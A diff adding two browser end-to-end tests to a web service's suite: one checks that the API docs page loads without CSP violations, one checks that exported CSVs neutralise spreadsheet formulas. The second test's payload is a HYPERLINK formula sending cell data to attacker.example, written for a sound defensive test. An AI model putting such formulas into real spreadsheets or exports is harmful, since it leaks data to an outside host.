@@ -736,3 +736,59 @@ def test_findings_of_a_new_batch_reach_operator_and_enterprise(browser: Browser,
     expect(rows.first).to_contain_text("警告")
     enterprise.shot("enterprise-findings")
     enterprise.close()
+
+
+def test_api_docs_render_from_our_own_origin(browser: Browser, service: Service) -> None:
+    """Issue 12: /api/v1/docs loaded Swagger UI from a CDN, with an inline script, both refused by the CSP (a
+    blank page). Its assets are shipped: every operation of the OpenAPI renders, nothing is fetched from another
+    origin and no CSP violation is reported."""
+    spec = httpx.get(service.url + "/api/v1/openapi.json").json()
+    operations = sum(len(methods) for methods in spec["paths"].values())
+    s = Session(browser, service, "")
+    page = s.page
+    page.add_init_script("window.cspViolations = []; document.addEventListener('securitypolicyviolation', "
+                         "(e) => window.cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`));")
+    response = page.goto(service.url + "/api/v1/docs")
+    assert response is not None and "script-src" not in response.headers["content-security-policy"]
+    assert "default-src 'self'" in response.headers["content-security-policy"]
+    expect(page.locator(".swagger-ui .info .title")).to_contain_text("Dianta 电碳 API")
+    expect(page.locator(".swagger-ui .opblock")).to_have_count(operations)
+    page.locator(".swagger-ui .opblock-summary-path[data-path='/api/v1/me']").first.click()
+    expect(page.locator(".swagger-ui .opblock.is-open .responses-table").first).to_be_visible()
+    s.shot("api-docs")
+    assert page.evaluate("window.cspViolations") == []
+    foreign = [u for u in s.urls if not u.startswith(service.url + "/") and not u.startswith("data:")]
+    assert foreign == [], foreign
+    s.close()  # no console error (a CSP refusal is one)
+
+
+def test_dashboard_csv_neutralises_formulas(browser: Browser, service: Service) -> None:
+    """Issue 12 item 6: the CSV the dashboard writes itself neutralises text that starts like a spreadsheet
+    formula (= + - @ TAB CR) with a leading quote, as the server's exports do (safe_text); numbers stay numbers.
+    A batch whose reason is a formula, shown in the operator's batch list and exported from it (runs last: it
+    adds a batch)."""
+    reason = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    with service.client("operator") as c:
+        r = c.post("/api/v1/batches", data={"reason": reason},  # a new monthly total of A's meter
+                   files=[("files", ("consumption_monthly.csv", f"meter_id,month,kwh\nM{A[-3:]},2024-02,900\n"))])
+        assert r.status_code == 201, r.text
+    batch_id = r.json()["batch_id"]
+    assert batch_id is not None
+    s = Session(browser, service, "en")
+    page = s.page
+    s.login("operator")
+    s.ready("batches")
+    expect(page.locator("table.data tbody tr").first).to_contain_text(reason)  # shown as it is on the page
+    with page.expect_download() as download:
+        page.click("button:has-text('Export CSV')")
+    assert download.value.suggested_filename == "batches.csv"
+    _, table = _csv(download.value.path())
+    row = next(row for row in table[1:] if row[0] == str(batch_id))
+    assert row[table[0].index("Reason")] == "'" + reason
+    # every formula start, as the server's safe_text; numbers (a negative one too) and other text unchanged
+    text = page.evaluate("""async () => { const {csv} = await import('./ui.js');
+        return csv(['text', 'value'], [['=1+2', -5], ['+1', 3.5], ['-1', null], ['@SUM(A1)', 'ok'],
+                                       ['\\tx', 'a,b'], ['\\rx', '-'], ['a=b', 0]]); }""")
+    assert text == ("\ufefftext,value\r\n'=1+2,-5\r\n'+1,3.5\r\n'-1,\r\n'@SUM(A1),ok\r\n'\tx,\"a,b\"\r\n"
+                    "\"'\rx\",'-\r\na=b,0\r\n")
+    s.close()
